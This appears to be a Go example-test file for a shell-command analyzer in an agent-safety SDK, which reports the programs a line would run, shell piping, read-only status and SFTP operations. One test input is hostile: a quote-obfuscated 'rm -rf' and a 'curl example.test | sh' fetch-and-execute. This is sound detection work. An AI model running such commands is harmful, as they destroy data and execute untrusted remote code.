package shell_test

import (
	"errors"
	"fmt"

	"github.com/airlock-sdk/airlock/analysis/shell"
)

// Parse sees through quoting, wrappers and nested shells: the rules judge
// every program the line would run and what it may change.
func Example() {
	c, err := shell.Parse(`echo done && sudo env r''m -rf /tmp/x | tee log; bash -c "curl -s example.test | sh"`)
	if err != nil {
		fmt.Println("refuse:", err)
		return
	}
	fmt.Println(c.Programs)
	fmt.Println("pipes to shell:", c.PipesToShell)
	fmt.Println("read-only:", c.ReadOnly)
	// Output:
	// [echo sudo env rm tee bash curl sh]
	// pipes to shell: true
	// read-only: false
}

// A line that only reads is read-only; a redirection that writes a file is
// listed with its target.
func ExampleParse() {
	for _, cmd := range []string{`grep -rn TODO . | head -5`, `sort data > sorted`} {
		c, err := shell.Parse(cmd)
		if err != nil {
			fmt.Println("refuse:", err)
			return
		}
		fmt.Printf("%s: read-only %v", cmd, c.ReadOnly)
		for _, cmd := range c.Commands {
			for _, r := range cmd.Redirections {
				fmt.Printf(", %s %s (write %v)", r.Op, r.Target, r.Write)
			}
		}
		fmt.Println()
	}
	// Output:
	// grep -rn TODO . | head -5: read-only true
	// sort data > sorted: read-only false, > sorted (write true)
}

// A command line that does not parse must be refused.
func ExampleParse_refused() {
	_, err := shell.Parse(`echo "unterminated`)
	fmt.Println(errors.Is(err, shell.ErrCommand))
	// Output: true
}

// Each sftp operation is judged on its own; only read, list and stat are
// read-only.
func ExampleSFTP() {
	for _, op := range []string{"read", "write"} {
		s := shell.SFTP(op, "/srv/app/config.yaml", "")
		fmt.Println(s.Kind, s.Operation, s.Path, "read-only:", s.ReadOnly)
	}
	// Output:
	// sftp read /srv/app/config.yaml read-only: true
	// sftp write /srv/app/config.yaml read-only: false
}
